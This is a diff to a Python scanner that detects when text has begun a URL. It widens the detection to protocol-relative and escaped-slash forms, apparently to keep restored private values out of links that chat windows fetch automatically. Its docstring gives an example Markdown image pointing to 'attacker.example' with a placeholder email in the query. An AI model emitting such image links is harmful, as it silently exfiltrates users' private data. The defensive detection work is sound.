@@ -3,8 +3,9 @@
 A chat window fetches the images of an answer without a click, so a value that is restored inside a
 URL leaves the machine: `![](https://attacker.example/?q=[EMAIL_7K2Q])`. The scanner knows, at every
 position, whether the text before it has begun a URL: `scheme://`, `www.`, the target of a Markdown
-link or definition, or an HTML attribute that is fetched. A placeholder that *is* the whole
-beginning of a target is not inside: nobody chose a host for it.
+link or definition, an HTML attribute that is fetched, `//` behind a quote, a bracket or an equals
+sign, or a scheme with escaped slashes. A placeholder that *is* the whole beginning of a target is
+not inside: nobody chose a host for it.
 
 It reads a text once, from left to right, in pieces of any size.
 """
@@ -13,7 +14,7 @@ import re
 from dataclasses import dataclass
 
 _TRIGGER = re.compile(
-    r"(?P<bare>://|(?<![\w@])www\.|\]:\s{0,8}<?//)"
+    r"(?P<bare>:(?:\\{0,2}/){2}|(?<![\w@])www\.|\]:\s{0,8}<?//|(?<=[\"'(={`])//\w)"
     r"|(?P<link>\]\()"
     r"|(?P<attribute>(?<!\w)(?:src|href|srcset|poster|action|formaction|background)\s{0,8}=)",
     re.IGNORECASE,
@@ -34,7 +35,7 @@ _SCHEME = re.compile(r"[A-Za-z][A-Za-z0-9+.\-]*\Z")
 def may_link(text: str) -> bool:
     """Tell whether a text holds what a link can begin with, also once a part of it is replaced."""
     # fixed strings are found many times faster than a pattern
-    return "//" in text or "](" in text or "=" in text or "www." in text.lower()
+    return "//" in text or "\\/" in text or "](" in text or "=" in text or "www." in text.lower()
 
 
 @dataclass(slots=True)
